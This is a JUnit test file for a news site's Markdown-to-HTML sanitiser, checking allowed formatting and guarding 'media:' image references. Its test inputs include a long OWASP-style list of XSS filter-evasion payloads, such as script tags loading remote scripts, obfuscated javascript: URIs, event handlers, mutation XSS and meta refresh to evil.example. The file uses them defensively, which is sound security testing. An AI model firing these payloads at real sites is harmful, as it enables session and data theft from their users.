package org.newsdesk.news;

import java.util.Locale;
import java.util.stream.Stream;

import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

class MarkdownRendererTests {

    private final MarkdownRenderer renderer = new MarkdownRenderer();

    @Test
    void rendersTheAllowedMarkdown() {
        String html = renderer.toSafeHtml("""
                # Title becomes h2

                Some *emphasis*, **strong** and `code`, a [link](https://www.iom.int/) and [mail](mailto:info@example.org).

                - one
                - two

                > A quote

                | a | b |
                |---|---|
                | 1 | 2 |

                ![A map of the region](https://example.org/map.png)
                """);

        assertThat(html).contains("<h2>Title becomes h2</h2>")
                .contains("<em>emphasis</em>").contains("<strong>strong</strong>").contains("<code>code</code>")
                .contains("<a href=\"https://www.iom.int/\"")
                .contains("href=\"mailto:info&#64;example.org\"")
                .contains("<li>one</li>")
                .contains("<blockquote>").contains("<table>").contains("<td>1</td>")
                .contains("<img src=\"https://example.org/map.png\" alt=\"A map of the region\" loading=\"lazy\" decoding=\"async\" referrerpolicy=\"no-referrer\" />");
        // Links to other sites never hand them this page (the order of rel tokens is the sanitiser's).
        assertThat(Jsoup.parseBodyFragment(html).select("a").eachAttr("rel"))
                .allSatisfy(rel -> assertThat(rel.split(" ")).containsExactlyInAnyOrder("noopener", "noreferrer"));
    }

    @Test
    void aPictureOfTheLibraryIsKeptAsItsReferenceForPagesToShow() {
        assertThat(renderer.toSafeHtml("Before.\n\n![Boats in the harbour](media:42)\n\nAfter, ![inline](media:7) too."))
                .isEqualTo("<p>Before.</p>\n<p><img src=\"media:42\" alt=\"Boats in the harbour\" /></p>\n"
                        + "<p>After, <img src=\"media:7\" alt=\"inline\" /> too.</p>");
        assertThat(ItemPictures.placedIn(renderer.toSafeHtml("![a](media:42) ![b](media:7) ![c](media:42)"))).containsExactly(42L, 7L);
    }

    /** media: names a picture and nothing else: not a link, not a path, not raw HTML. */
    @ParameterizedTest
    @ValueSource(strings = {
            "[a link](media:42)",
            "<img src=\"media:42\">",
            "![x](media:42\"onerror=\"alert(1))",
            "![x](media:42 \"t\\\" onerror=\\\"alert(1)\")",
            "![x](media:../../admin)",
            "![x](media:42/../../x)",
            "![x](media:javascript:alert(1))",
            "![x](MEDIA:42)",
            "![x](media:%34%32)",
            "[![x](media:42)](javascript:alert(1))",
            "[x]\n\n[x]: media:42"})
    void mediaReferencesCannotBeAbused(String markdown) {
        String html = renderer.toSafeHtml(markdown);
        Document document = Jsoup.parseBodyFragment(html);
        assertThat(document.select("a[href]").eachAttr("href")).noneMatch(href -> href.toLowerCase(Locale.ROOT).contains("media:")
                || href.toLowerCase(Locale.ROOT).startsWith("javascript"));
        assertThat(document.select("img").eachAttr("src")).allMatch(src -> src.matches("media:\\d+"));
        assertThat(document.select("*").stream().flatMap(e -> e.attributes().asList().stream()).map(Attribute::getKey))
                .noneMatch(key -> key.startsWith("on"));
        // Whatever is kept, the page finds only whole references.
        assertThat(ItemPictures.placedIn(html)).allMatch(id -> id == 42L);
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "[click](javascript:alert(1))",
            "[click](JAVASCRIPT:alert(1))",
            "[click](  javascript:alert(1))",
            "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<div style=\"background:url(javascript:alert(1))\">x</div>",
            "<iframe src=\"https://evil.example\"></iframe>",
            "<svg onload=alert(1)>",
            "![x](javascript:alert(1))",
            "![x](http://insecure.example/x.png)",
            "<p onclick=\"alert(1)\">x</p>",
            "<style>body{display:none}</style>",
            "<form action=\"https://evil.example\"><input></form>"})
    void neverLetsScriptsHandlersStylesOrForeignElementsThrough(String payload) {
        Document html = Jsoup.parseBodyFragment(renderer.toSafeHtml(payload));

        assertThat(html.select("script, style, iframe, svg, form, input, object, embed")).isEmpty();
        for (Element element : html.body().getAllElements()) {
            for (Attribute attribute : element.attributes()) {
                assertThat(attribute.getKey()).isIn("href", "src", "alt", "title", "rel", "start", "align", "loading", "decoding", "referrerpolicy");
                assertThat(attribute.getValue().toLowerCase().strip()).doesNotStartWith("javascript:").doesNotStartWith("data:")
                        .doesNotStartWith("http://insecure");
            }
        }
    }

    /**
     * Payloads in the style of the OWASP XSS filter evasion cheat sheet, raw and inside Markdown
     * syntax: encoded and obfuscated {@code javascript:}, entity tricks, nested and broken tags,
     * SVG and MathML, {@code data:} URIs, style and event attributes, {@code <base>}, meta refresh,
     * mutation XSS. Whatever comes out, a browser parsing it must find nothing that runs.
     */
    static Stream<String> xssPayloads() {
        return Stream.of(
                // Scripts, raw and broken
                "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
                "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
                "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
                "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
                "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
                "<script\n>alert(1)</script\n>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
                "<template><script>alert(1)</script></template>",
                "<textarea><script>alert(1)</script></textarea>",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
                // javascript: in images and links, obfuscated
                "<IMG SRC=\"javascript:alert('XSS');\">",
                "<IMG SRC=JaVaScRiPt:alert('XSS')>",
                "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
                "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
                "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
                "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
                "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
                "<IMG SRC=\"jav\tascript:alert('XSS');\">",
                "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
                "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
                "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
                "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
                "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
                "<a href=\" javascript:alert(1)\">x</a>",
                "<a href=\"javas\u0000cript:alert(1)\">x</a>",
                "<a href=\"vbscript:msgbox('XSS')\">x</a>",
                "<img srcset=\"javascript:alert(1) 1x\">",
                // Event handlers
                "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
                "<IMG SRC=# onmouseover=\"alert('xxs')\">",
                "<IMG SRC= onmouseover=\"alert('xxs')\">",
                "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
                "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
                "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
                "<details open ontoggle=alert(1)>",
                "<video><source onerror=\"alert(1)\">",
                "<audio src=x onerror=alert(1)>",
                "<frameset onload=alert(1)>",
                "<marquee onstart=alert(1)>",
                "<isindex type=image src=1 onerror=alert(1)>",
                "<p/onclick=alert(1)>x</p>",
                // SVG and MathML
                "<svg/onload=alert('XSS')>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
                "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                "<svg><set attributeName=href to=javascript:alert(1)>",
                "<math href=\"javascript:alert(1)\">CLICKME</math>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">x</mi></math>",
                // Mutation XSS
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                "<table><td><style><img src=x onerror=alert(1)></style>",
                // Styles
                "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
                "<DIV STYLE=\"width: expression(alert('XSS'));\">",
                "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
                "<XSS STYLE=\"behavior: url(xss.htc);\">",
                "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">Overlay</p>",
                // Elements that load or navigate
                "<iframe src=http://xss.rocks/scriptlet.html <",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
                "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
                "<IMG DYNSRC=\"javascript:alert('XSS')\">",
                "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">",
                "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
                "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
                "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example\">",
                "<BASE HREF=\"javascript:alert('XSS');//\">",
                "<base href=\"https://evil.example/\">",
                "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
                "<link rel=import href=https://evil.example>",
                "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
                "<object data=\"javascript:alert(1)\">",
                "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=\" type=\"image/svg+xml\">",
                "<form><button formaction=javascript:alert(1)>X</button></form>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
                "<a href=\"https://ok.example\" target=\"_blank\" style=\"color:red\" onclick=\"x()\">ok</a>",
                // The same ideas in Markdown syntax
                "[a](javascript:alert(1))",
                "[a](jAvAsCrIpT:alert(1))",
                "[a](javascript&#58;alert(1))",
                "[a](&#106;avascript:alert(1))",
                "[a](&#x6A;avascript:alert(1))",
                "[a](java\u0000script:alert(1))",
                "[a](<javascript:alert(1)>)",
                "[a](vbscript:msgbox(1))",
                "[a](data:text/html,<script>alert(1)</script>)",
                "[a](file:///etc/passwd)",
                "[a](ｊａｖａｓｃｒｉｐｔ:alert(1))",
                "<javascript:alert(1)>",
                "[a]\n\n[a]: javascript:alert(1)",
                "[a]\n\n[a]: <javascript:alert(1)> \"title\"",
                "[a](https://example.org/\"onmouseover=\"alert(1))",
                "[a](https://example.org/ \"title\\\" onmouseover=\\\"alert(1)\")",
                "![a](https://example.org/x.png\"onerror=\"alert(1))",
                "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
                "![x](javascript:alert(1))",
                "![x](//evil.example/x.png)",
                "![x](http://insecure.example/x.png)",
                "[![img](https://example.org/x.png)](javascript:alert(1))",
                "`<script>alert(1)</script>`",
                "```html\n<script>alert(1)</script>\n```",
                "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
                "> <iframe src=javascript:alert(1)>",
                "- [x](javascript:alert(1))\n- <svg onload=alert(1)>",
                "## <img src=x onerror=alert(1)>");
    }

    @ParameterizedTest
    @MethodSource("xssPayloads")
    void nothingThatRunsSurvivesTheXssList(String payload) {
        Document html = Jsoup.parseBodyFragment(renderer.toSafeHtml(payload));

        for (Element element : html.body().getAllElements()) {
            assertThat(element.normalName()).isIn("body", "p", "br", "hr", "em", "strong", "code", "pre", "blockquote",
                    "ul", "ol", "li", "h2", "h3", "h4", "table", "thead", "tbody", "tr", "th", "td", "a", "img");
            for (Attribute attribute : element.attributes()) {
                assertThat(attribute.getKey()).isIn("href", "src", "alt", "title", "rel", "start", "align", "loading", "decoding", "referrerpolicy");
                // What a browser reads as the URL: entities decoded by the parser, then without spaces and controls.
                String url = attribute.getValue().replaceAll("[\\s\\p{Cc}]", "").toLowerCase(Locale.ROOT);
                if (attribute.getKey().equals("href")) {
                    assertThat(url).satisfiesAnyOf(
                            href -> assertThat(href).matches("(https?|mailto):.*"),
                            href -> assertThat(href).doesNotContain(":"));
                }
                if (attribute.getKey().equals("src")) {
                    assertThat(url).startsWith("https://");
                }
            }
        }
    }

    @Test
    void anEmptyBodyRendersToNothing() {
        assertThat(renderer.toSafeHtml("")).isEmpty();
        assertThat(renderer.toSafeHtml("   \n ")).isEmpty();
    }
}
